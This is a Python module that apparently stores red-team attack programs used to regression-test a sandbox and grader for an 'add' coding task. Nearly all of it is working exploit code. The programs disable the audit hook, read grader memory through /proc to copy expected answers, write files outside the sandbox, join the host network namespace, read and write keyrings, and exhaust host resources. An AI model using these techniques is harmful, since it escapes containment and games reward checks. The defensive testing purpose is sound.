"""What the red team of issue 61 found against the fourth pass (before its fixes), as hacks.

The task: add(a, b) -> a + b (assert / call forms) or "a b" on stdin -> the sum (io form).
No program here implements it. Each earned a reward, or cost the caller, before the fixes the
issue's closing note lists:

- fallback_scandir_memory (read_memory): unsafe fallback, all forms, 3.11/3.12/3.13 -> 1.0.
  os.scandir(f"/proc/{pid}") is not an "open" event; its DIR* holds a descriptor (the lowest free
  number) that serves as dir_fd for os.open("mem", dir_fd=...), which the hook judges as a
  relative path inside the program's directory. As root (CAP_SYS_PTRACE) the program reads the
  caller's memory (CallCase / IOCase: the expected value sits in the slot next to a pointer to
  the call / stdin str) and the judge's (the tests' text).
- fallback_unhook_memory (reach_harness): the same, with the audit hook switched off first
  (gc finds the hook; its __globals__ and closure cells are writable), plain /proc paths.
- scandir_tmpfs_fill (resources): bwrap; 256 MB (unbounded in principle) of host RAM outside the
  32 MB /box via the same dir_fd hole into the sandbox's uncapped /dev (and /) tmpfs.
- fallback_write_outside (escape): unsafe fallback; create / delete files anywhere (dir_fd hole).
- fallback_immutable_leftover (escape): unsafe fallback as root; chattr +i in the box, the
  caller's cleanup fails, the directory stays on the host.
- unhook_ctypes_netns (escape): both modes load ctypes and sockets with the hook off; on the
  fallback, setns() into the caller's network namespace (unshare --net undone).
- gc_stall_replies (resources): both modes; each 1 MB reply of empty lists (["ok", [[], ...]])
  makes the caller's decode build ~350k lists, whose garbage collections walk the caller's whole
  heap on its event loop: ~0.3 s stalls, the loop ~90% blocked for the run's wall_s; three such
  runs next to an honest one made the honest one time out (0.06 s alone).

Round 2, against the fixed design (none earned a reward; each reached past the box or cost the
host, with the audit hook switched off and ctypes loaded): the caller's session keyring read
and written (keyctl, add_key), SysV shared memory left on the host (fallback), memfds past
memory_mb, a reply of 116,000 empty dicts stalling the caller's loop ~120 ms.
"""
from __future__ import annotations

from .hack import Hack

# The memory reader of fallback_scandir_memory / fallback_unhook_memory: the caller's and the
# judge's /proc/<pid>/mem, reached either through a scandir descriptor or with the hook off.
_READER = (
    '\n'
    '\n'
    'class Proc:\n'
    '    def __init__(self, pid):\n'
    '        self.pid = pid\n'
    '        self.dfd = _dirfd(f"/proc/{pid}")\n'
    '        self.mem = os.open("mem", os.O_RDONLY, dir_fd=self.dfd)\n'
    '        self.maps = self.file("maps").decode()\n'
    '        import re\n'
    '        m = re.search(r"python3\\.(\\d+)", self.maps)\n'
    '        self.minor = int(m.group(1)) if m else 11\n'
    "        self.header = 48 if self.minor <= 11 else 40  # a compact ASCII str's data offset\n"
    '\n'
    '    def file(self, name):\n'
    '        return _read_all(os.open(name, os.O_RDONLY, dir_fd=self.dfd))\n'
    '\n'
    '    def regions(self, limit=1 << 28):\n'
    '        for line in self.maps.splitlines():\n'
    '            parts = line.split()\n'
    '            lo, hi = (int(x, 16) for x in parts[0].split("-"))\n'
    '            if parts[1].startswith("rw") and (len(parts) < 6 or parts[5] == "[heap]") \\\n'
    '                    and hi - lo <= limit:\n'
    '                yield lo, hi\n'
    '\n'
    '    def read(self, addr, size):\n'
    '        try:\n'
    '            return os.pread(self.mem, size, addr)\n'
    '        except OSError:\n'
    '            return b""\n'
    '\n'
    '    def ptr(self, addr):\n'
    '        b = self.read(addr, 8)\n'
    '        return struct.unpack("<Q", b)[0] if len(b) == 8 else 0\n'
    '\n'
    '    def scan(self, needles, chunk=1 << 22, limit=2000, only=None):\n'
    '        """One pass over the writable memory (or the regions `only`): needle -> addresses.'
    '"""\n'
    '        found = {n: [] for n in needles}\n'
    '        pad = max(len(n) for n in needles)\n'
    '        for lo, hi in (only if only is not None else self.regions()):\n'
    '            a = lo\n'
    '            while a < hi:\n'
    '                data = self.read(a, min(chunk + pad, hi - a))\n'
    '                if not data:\n'
    '                    break\n'
    '                for n in needles:\n'
    '                    i = data.find(n)\n'
    '                    while 0 <= i < chunk and len(found[n]) < limit:\n'
    '                        found[n].append(a + i)\n'
    '                        i = data.find(n, i + 1)\n'
    '                a += chunk\n'
    '        return found\n'
    '\n'
    '    def cstr(self, addr, n=64):\n'
    '        return self.read(addr, n).split(b"\\0")[0]\n'
    '\n'
    '    def type_name(self, obj):\n'
    '        t = self.ptr(obj + 8)\n'
    '        return self.cstr(self.ptr(t + 24)).decode("latin-1") if t else ""\n'
    '\n'
    '    def value(self, obj):\n'
    '        kind = self.type_name(obj)\n'
    '        if kind == "str":\n'
    '            n = struct.unpack("<q", self.read(obj + 16, 8))[0]\n'
    '            if not 0 <= n < 1 << 20:\n'
    '                raise LookupError("str")\n'
    '            return self.read(obj + self.header, n).decode()\n'
    '        if kind == "int":\n'
    '            head = struct.unpack("<q", self.read(obj + 16, 8))[0]\n'
    '            if self.minor <= 11:\n'
    '                sign, nd = (head > 0) - (head < 0), abs(head)\n'
    '            else:\n'
    '                sign, nd = (1, 0, -1)[head & 3], head >> 3\n'
    '            if nd > 1000:\n'
    '                raise LookupError("int")\n'
    '            digits = struct.unpack(f"<{nd}I", self.read(obj + 24, 4 * nd)) if nd else ()\n'
    '            return sign * sum(d << (30 * i) for i, d in enumerate(digits))\n'
    '        raise LookupError(kind)\n'
    '\n'
    '    def strings(self, prefix, exact=None):\n'
    '        """The compact ASCII str objects whose text starts with `prefix`: address -> text.'
    '"""\n'
    '        out = {}\n'
    '        for d in self.scan([prefix])[prefix]:\n'
    '            text = self.read(d, 4096).split(b"\\0")[0]\n'
    '            a = d - self.header\n'
    '            if (exact is None or text == exact) and \\\n'
    '                    struct.unpack("<q", self.read(a + 16, 8) or bytes(8))[0] == len(text) '
    'and \\\n'
    '                    self.type_name(a) == "str":\n'
    '                out[a] = text.decode()\n'
    '        return out\n'
    '\n'
    '    def beside(self, objects, want):\n'
    '        near = [(lo, hi) for lo, hi in self.regions() if any(lo <= a < hi for a in objects'
    ')]\n'
    '        found = self._beside(objects, want, near)\n'
    '        return found if len(found) == len(set(objects.values())) else \\\n'
    '            self._beside(objects, want, None)\n'
    '\n'
    '    def _beside(self, objects, want, only):\n'
    '        """For each str object, the value in the slot after a reference to it (an (input,\n'
    "        expected) tuple, or an instance dict's values [call, expected] / [stdin, stdout]),\n"
    '        by majority: text -> value."""\n'
    "        # The low four bytes only (bytes.find skips on the needle's last byte, and a point"
    'er\n'
    '        # ends in zeros, as most of memory does); the rest checked after.\n'
    '        low = self.scan([struct.pack("<Q", a)[:4] for a in objects], limit=5000, only=only)\n'
    '        refs = {struct.pack("<Q", a): [r for r in low[struct.pack("<Q", a)[:4]]\n'
    '                                      if self.ptr(r) == a][:50] for a in objects}\n'
    '        votes = {}\n'
    '        for a, text in objects.items():\n'
    '            for ref in refs[struct.pack("<Q", a)]:\n'
    '                nxt = self.ptr(ref + 8)\n'
    '                try:\n'
    '                    if nxt and self.type_name(nxt) in want:\n'
    '                        v = self.value(nxt)\n'
    '                        box = votes.setdefault(text, {})\n'
    '                        box[repr(v)] = (box.get(repr(v), (0, v))[0] + 1, v)\n'
    '                except (LookupError, struct.error, UnicodeDecodeError):\n'
    '                    pass\n'
    '        return {t: max(b.values(), key=lambda x: x[0])[1] for t, b in votes.items()}\n'
)
_VIA_SCANDIR = (
    'import os, sys, struct\n'
    '\n'
    '_keep = []\n'
    '\n'
    'def _dirfd(path):\n'
    '    # os.scandir raises "os.scandir", not "open": the audit hook lets it list any director'
    'y,\n'
    '    # and its DIR* holds a descriptor of it (the lowest free number), a dir_fd for relative\n'
    "    # opens that the hook judges against the program's own directory.\n"
    '    probe = os.open(os.devnull, os.O_RDONLY)\n'
    '    os.close(probe)\n'
    '    _keep.append(os.scandir(path))\n'
    '    return probe\n'
    '\n'
    'def _read_all(fd):\n'
    '    out = b""\n'
    '    while c := os.read(fd, 1 << 16):\n'
    '        out += c\n'
    '    os.close(fd)\n'
    '    return out'
)
_UNHOOKED = (
    'import gc, os, sys\n'
    '# The audit hook is a closure of the bootstrap (run as __main__, then replaced by the prog'
    "ram's\n"
    "# module): gc finds it, its __globals__ are the bootstrap's module globals, read at each e"
    'vent,\n'
    '# and its closure cells are writable (cell_contents).\n'
    '_hook = next(f for f in gc.get_objects() if (\n'
    '    type(f) is type(lambda: 0) and f.__name__ == "hook" and "_make_hook" in f.__globals__))\n'
    '_hook.__globals__.update(_REFUSED_EVENTS=frozenset(), _REFUSED_PREFIXES=("\\0",),\n'
    '                         _PATH_EVENTS=frozenset(), _WRITE_FLAGS=0)\n'
    'for _name, _cell in zip(_hook.__code__.co_freevars, _hook.__closure__):\n'
    '    if _name == "refused_imports":\n'
    '        _cell.cell_contents = frozenset()\n'
    '    elif _name == "inside":\n'
    '        _cell.cell_contents = lambda path: True\n'
    '    elif _name == "upward":\n'
    '        _cell.cell_contents = lambda text: False\n'
    'import os, sys, struct\n'
    '\n'
    '_keep = []\n'
    '\n'
    'def _dirfd(path):\n'
    '    # os.scandir raises "os.scandir", not "open": the audit hook lets it list any director'
    'y,\n'
    '    # and its DIR* holds a descriptor of it (the lowest free number), a dir_fd for relative\n'
    "    # opens that the hook judges against the program's own directory.\n"
    '    probe = os.open(os.devnull, os.O_RDONLY)\n'
    '    os.close(probe)\n'
    '    _keep.append(os.scandir(path))\n'
    '    return probe\n'
    '\n'
    'def _read_all(fd):\n'
    '    out = b""\n'
    '    while c := os.read(fd, 1 << 16):\n'
    '        out += c\n'
    '    os.close(fd)\n'
    '    return out\n'
    '\n'
    'def _dirfd(path):  # the hook is off: a plain directory descriptor, no os.scandir needed\n'
    '    return os.open(path, os.O_RDONLY | os.O_DIRECTORY)'
)
_TAILS = {
    'assert': (
        'import ast\n'
        '\n'
        '_answers = {}\n'
        '\n'
        'def _judges():\n'
        '    procfd = _dirfd("/proc")\n'
        '    me, parent = os.getpid(), os.getppid()\n'
        '    for name in os.listdir(procfd):\n'
        '        if not name.isdigit() or int(name) == me:\n'
        '            continue\n'
        '        try:\n'
        '            stat = _read_all(os.open(f"{name}/stat", os.O_RDONLY, dir_fd=procfd)).decode()'
        '\n'
        '            cmd = _read_all(os.open(f"{name}/cmdline", os.O_RDONLY, dir_fd=procfd))\n'
        '        except OSError:\n'
        '            continue\n'
        '        if int(stat.rpartition(")")[2].split()[1]) == parent and b"\\0judge" in cmd:\n'
        '            yield int(name)\n'
        '\n'
        'def _learn(fname):\n'
        '    for pid in _judges():\n'
        '        p = Proc(pid)\n'
        '        for at in p.scan([fname.encode() + b"("])[fname.encode() + b"("]:\n'
        "            for back in (4096, 1024, 256, 64, 0):  # not before the region's start\n"
        '                around = p.read(at - back, back + 4096)\n'
        '                if around:\n'
        '                    break\n'
        '            text = around[:back].rpartition(b"\\0")[2] + around[back:].partition(b"\\0")[0]\n'
        ''
        '            for line in text.decode("latin-1").splitlines():\n'
        '                try:\n'
        '                    node = ast.parse(line[line.find("assert"):].strip()).body[0]\n'
        '                    test = node.test if isinstance(node, ast.Assert) else None\n'
        '                    if isinstance(test, ast.Compare) and isinstance(test.ops[0], ast.Eq) a'
        'nd \\\n'
        '                            isinstance(test.left, ast.Call):\n'
        '                        args = tuple(ast.literal_eval(a) for a in test.left.args)\n'
        '                        _answers[repr(args)] = ast.literal_eval(test.comparators[0])\n'
        '                except Exception:\n'
        '                    pass\n'
        '\n'
        'def add(a, b):\n'
        '    key = repr((a, b))\n'
        '    if key not in _answers:\n'
        '        _learn("add")\n'
        '    return _answers[key]\n'
),
    'call': (
        '\n'
        '_table = {}\n'
        '\n'
        'def _expression():\n'
        "    # The call case's expression, from the serving loop's frame (the request it is answeri"
        'ng).\n'
        '    f = sys._getframe(1)\n'
        '    while f is not None:\n'
        '        r = f.f_locals.get("request")\n'
        '        if type(r) is list and r[:1] == ["eval"]:\n'
        '            return r[1]\n'
        '        f = f.f_back\n'
        '    raise LookupError("no eval request")\n'
        '\n'
        'def add(a, b):\n'
        '    expr = _expression()\n'
        '    if expr not in _table:\n'
        '        p = Proc(os.getppid())  # the caller: it holds CallCase(call, expected)\n'
        '        _table.update(p.beside(p.strings(expr.partition("(")[0].encode() + b"("), ("int",)'
        '))\n'
        '    return _table[expr]\n'
),
    'io': (
        '\n'
        'text = sys.stdin.read()\n'
        'p = Proc(os.getppid())  # the caller: it holds IOCase(stdin, stdout)\n'
        'print(p.beside(p.strings(text.encode(), exact=text.encode()), ("str",))[text], end="")\n'
),
}
_P = {
    'fill': 'import os, sys, time\n'
         '\n'
         'def add(a, b):\n'
         '    return 0\n'
         '\n'
         "# Under bubblewrap the program's / and /dev are tmpfs mounts of its own, with no --size: "
         'only\n'
         '# /box is capped (max_box_bytes). os.scandir keeps a descriptor of any directory it '
         'lists\n'
         '# (the audit hook does not see it as an open), and a relative name under that dir_fd '
         'passes the\n'
         '# hook\'s "inside the program\'s directory" test. RLIMIT_FSIZE caps each file, not their '
         'number;\n'
         "# RLIMIT_AS does not count tmpfs pages. They are the host's RAM (Shmem) until the run "
         'ends.\n'
         'if os.getcwd() == "/box":  # bwrap only: on the fallback /dev/shm is the host\'s own\n'
         '    probe = os.open(os.devnull, os.O_RDONLY)\n'
         '    os.close(probe)\n'
         '    listing = os.scandir("/dev/shm")\n'
         '    start, total = time.process_time(), 0\n'
         '    for i in range(16):  # 16 x 16 MB (max_file_bytes) = 256 MB; the /box cap is 32 MB\n'
         '        fd = os.open(f"fill{i}", os.O_CREAT | os.O_WRONLY, dir_fd=probe)\n'
         '        os.posix_fallocate(fd, 0, 16 << 20)\n'
         '        total += 16 << 20\n'
         '        os.close(fd)\n'
         '    print(f"fallocated {total >> 20} MB of host RAM outside /box in "\n'
         '          f"{time.process_time() - start:.3f} s CPU", file=sys.stderr)\n'
         "    time.sleep(1.0)  # long enough to see Shmem in the host's /proc/meminfo\n",
    'gcstall': 'import gc, sys\n'
            '\n'
            'def add(a, b):\n'
            '    return 0\n'
            '\n'
            '# Every reply: 1 MB of empty lists (["ok", [[], [], ...]]). The caller decodes each '
            'with the C\n'
            "# JSON scanner into ~340k lists; creating them triggers the caller's garbage "
            'collector, whose\n'
            "# full collections walk the caller's whole heap, on its event loop.\n"
            '_hook = next(f for f in gc.get_objects()\n'
            '             if type(f) is type(add) and f.__name__ == "hook" and "_make_hook" in '
            'f.__globals__)\n'
            '_REPLY = \'["ok",[\' + ",".join(["[]"] * 349000) + "]]"\n'
            '_hook.__globals__["_Server"].handle = lambda self, line: _REPLY\n',
    'immutable': 'import fcntl, os, struct, sys\n'
              '\n'
              'def add(a, b):\n'
              '    return 0\n'
              '\n'
              '# Unsafe fallback run as root (CAP_LINUX_IMMUTABLE): fcntl.ioctl is not refused, so '
              'a file of the\n'
              "# program's own directory can be made immutable; the caller's `chmod -R` / `rm -rf` "
              'then fail\n'
              "# and the directory stays on the host's disk. (Clean up: chattr -i FILE.)\n"
              'GETFLAGS, SETFLAGS, IMMUTABLE = 0x80086601, 0x40086602, 0x10\n'
              'fd = os.open("leftover", os.O_CREAT | os.O_RDONLY, 0o644)\n'
              'try:\n'
              '    flags = struct.unpack("l", fcntl.ioctl(fd, GETFLAGS, bytes(8)))[0]\n'
              '    fcntl.ioctl(fd, SETFLAGS, struct.pack("l", flags | IMMUTABLE))\n'
              '    print("immutable:", os.path.abspath("leftover"), file=sys.stderr)\n'
              'except OSError as exc:\n'
              '    print("ioctl refused:", exc, file=sys.stderr)\n',
    'netns': 'import gc, os, sys\n'
          '# The audit hook is a closure of the bootstrap (run as __main__, then replaced by the '
          "program's\n"
          "# module): gc finds it, its __globals__ are the bootstrap's module globals, read at "
          'each event,\n'
          '# and its closure cells are writable (cell_contents).\n'
          '_hook = next(f for f in gc.get_objects() if (\n'
          '    type(f) is type(lambda: 0) and f.__name__ == "hook" and "_make_hook" in '
          'f.__globals__))\n'
          '_hook.__globals__.update(_REFUSED_EVENTS=frozenset(), _REFUSED_PREFIXES=("\\0",),\n'
          '                         _PATH_EVENTS=frozenset(), _WRITE_FLAGS=0)\n'
          'for _name, _cell in zip(_hook.__code__.co_freevars, _hook.__closure__):\n'
          '    if _name == "refused_imports":\n'
          '        _cell.cell_contents = frozenset()\n'
          '    elif _name == "inside":\n'
          '        _cell.cell_contents = lambda path: True\n'
          '    elif _name == "upward":\n'
          '        _cell.cell_contents = lambda text: False\n'
          'import ctypes, socket  # both refused by the hook, now off\n'
          '\n'
          'def add(a, b):\n'
          '    return 0\n'
          '\n'
          'print("ctypes loaded in the sandboxed interpreter:", "_ctypes" in sys.modules, '
          'file=sys.stderr)\n'
          'print("interfaces:", [n for _, n in socket.if_nameindex()], file=sys.stderr)\n'
          'if os.getcwd() != "/box":  # unsafe fallback: join the caller\'s network namespace\n'
          '    libc = ctypes.CDLL(None, use_errno=True)\n'
          '    fd = os.open(f"/proc/{os.getppid()}/ns/net", os.O_RDONLY)\n'
          '    print("setns:", libc.setns(fd, 0x40000000), "interfaces now:",\n'
          '          [n for _, n in socket.if_nameindex()], file=sys.stderr)\n',
    'outside': 'import os, sys\n'
            '\n'
            'def add(a, b):\n'
            '    return 0\n'
            '\n'
            '# Unsafe fallback: os.scandir("/tmp") is no "open" event, and its DIR* keeps '
            'a\n'
            '# descriptor (the lowest free number) that serves as dir_fd; relative names under it '
            'pass the\n'
            "# hook's inside() test (abspath of the name joins the program's own cwd). So: create, "
            'write\n'
            '# and delete files anywhere this user can (here: root).\n'
            'if os.path.isdir("/tmp"):\n'
            '    probe = os.open(os.devnull, os.O_RDONLY)\n'
            '    os.close(probe)\n'
            '    listing = os.scandir("/tmp")\n'
            '    try:\n'
            '        os.mkdir("flexmarl-redteam-leftovers", dir_fd=probe)\n'
            '    except FileExistsError:\n'
            '        pass\n'
            '    fd = os.open(f"flexmarl-redteam-leftovers/from-sandbox-{os.getpid()}",\n'
            '                 os.O_CREAT | os.O_WRONLY, '
            '0o644,\n'
            '                 dir_fd=probe)\n'
            '    os.write(fd, b"written by a sandboxed program\\n")\n'
            '    os.close(fd)\n'
            '    try:\n'
            '        os.unlink("flexmarl-redteam-leftovers/victim", dir_fd=probe)  # deletes too\n'
            '        print("deleted /tmp/flexmarl-redteam-leftovers/victim", file=sys.stderr)\n'
            '    except FileNotFoundError:\n'
            '        pass\n'
            '    print("wrote /tmp/flexmarl-redteam-leftovers/from-sandbox-%d" % os.getpid(), '
            'file=sys.stderr)\n',
    'mem': {form: _VIA_SCANDIR + _READER + tail for form, tail in _TAILS.items()},
    'unhook_mem': {form: _UNHOOKED + _READER + tail for form, tail in _TAILS.items()},
}

HACKS = [
    Hack("fallback_scandir_memory", "read_memory", _P["mem"]),
    Hack("fallback_unhook_memory", "reach_harness", _P["unhook_mem"]),
    Hack("scandir_tmpfs_fill", "resources", {"call": _P["fill"]}),
    Hack("fallback_write_outside", "escape", {"call": _P["outside"]}),
    Hack("fallback_immutable_leftover", "escape", {"call": _P["immutable"]}),
    Hack("unhook_ctypes_netns", "escape", {"call": _P["netns"]}),
    # Judged by 40 call cases (LeetCode/APPS-sized suites have as many): each reply costs the
    # caller's event loop a garbage collection of its whole heap.
    Hack("gc_stall_replies", "resources", {"call": _P["gcstall"]},
         tests={"call": [(f"add({i}, {i})", 2 * i) for i in range(40)]}),
]

# ----------------------------------------------------------------------------- round 2
# UNHOOK: the audit hook switched off and ctypes loaded (tests/test_sandbox_bounds.py starts
# from it too: what must hold then is the kernel's).
UNHOOK = '''import sys, gc
_g = sys._getframe(1).f_globals          # the bootstrap's main(): its module globals
_g["_REFUSED_EVENTS"] = frozenset(); _g["_REFUSED_PREFIXES"] = ()
for _o in gc.get_objects():              # the hook's closure: its refused imports
    if type(_o).__name__ == "function" and _o.__name__ == "hook":
        for _c in _o.__closure__ or ():
            try:
                if isinstance(_c.cell_contents, frozenset) and "_ctypes" in _c.cell_contents:
                    _c.cell_contents = frozenset()
            except ValueError:
                pass
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
'''

_KEYRING = UNHOOK + '''
def _keys(spec):
    buf = ctypes.create_string_buffer(4096)
    n = libc.syscall(250, 11, spec, buf, 4096)        # keyctl(KEYCTL_READ, keyring)
    return [int.from_bytes(buf.raw[i:i + 4], "little") for i in range(0, max(n, 0), 4)]
for _name, _spec in (("session", -3), ("user-session", -5)):
    for _k in _keys(_spec):
        _d = ctypes.create_string_buffer(256); libc.syscall(250, 6, _k, _d, 256)   # DESCRIBE
        _p = ctypes.create_string_buffer(4096); _n = libc.syscall(250, 11, _k, _p, 4096)
        print(f"read the caller's {_name} keyring: a key of type/desc {len(_d.value)} bytes, "
              f"payload {_n} bytes", file=sys.stderr)
# written into the caller's session keyring: survives the run, seen by every later run
libc.syscall(248, b"user", b"flexmarl-redteam2", b"persisted", 9, -3)
'''

_SHM = UNHOOK + '''
libc.shmat.restype = ctypes.c_void_p
_sid = libc.shmget(0x7ED70000, 4096, 0o1600)    # IPC_CREAT | 0600, never IPC_RMID
_a = libc.shmat(_sid, None, 0); ctypes.memset(_a, 0x41, 4096); libc.shmdt(ctypes.c_void_p(_a))
print("a SysV shm segment left on the host:", _sid, file=sys.stderr)   # ipcrm -M 0x7ed70000
'''

_MEMFD = '''import os, sys
_fds, _chunk = [], b"x" * (1 << 20)
try:
    while True:                       # memfd pages: not address space, so not RLIMIT_AS
        _fds.append(os.memfd_create("m"))
        for _ in range(16):           # each file at most max_file_bytes (16 MiB)
            os.write(_fds[-1], _chunk)
except OSError:
    pass                              # EMFILE at 64 descriptors
print("memfd MiB held:", sum(os.fstat(f).st_size for f in _fds) >> 20, file=sys.stderr)
'''

# {"d":[]} each: 9 bytes, one call of the decoder's object hook in the caller
_STALL = '''_E = [{}] * 116000
'''

HACKS += [  # round 2
    Hack("keyring_caller_secrets", "fallback_escape", {
        "assert": _KEYRING + "def add(a, b):\n    return 0\n",
        "call": _KEYRING + "def add(a, b):\n    return 0\n",
        "io": _KEYRING + "print(0)\n"}),
    Hack("sysv_shm_left_on_host", "caller_break", {
        "assert": _SHM + "def add(a, b):\n    return 0\n",
        "io": _SHM + "print(0)\n"}),
    Hack("memfd_past_memory_mb", "caller_break", {
        "assert": _MEMFD + "def add(a, b):\n    return 0\n",
        "io": _MEMFD + "print(0)\n"}),
    Hack("tagged_reply_stall", "caller_break", {
        "call": _STALL + "def add(a, b):\n    return _E\n"}),
]
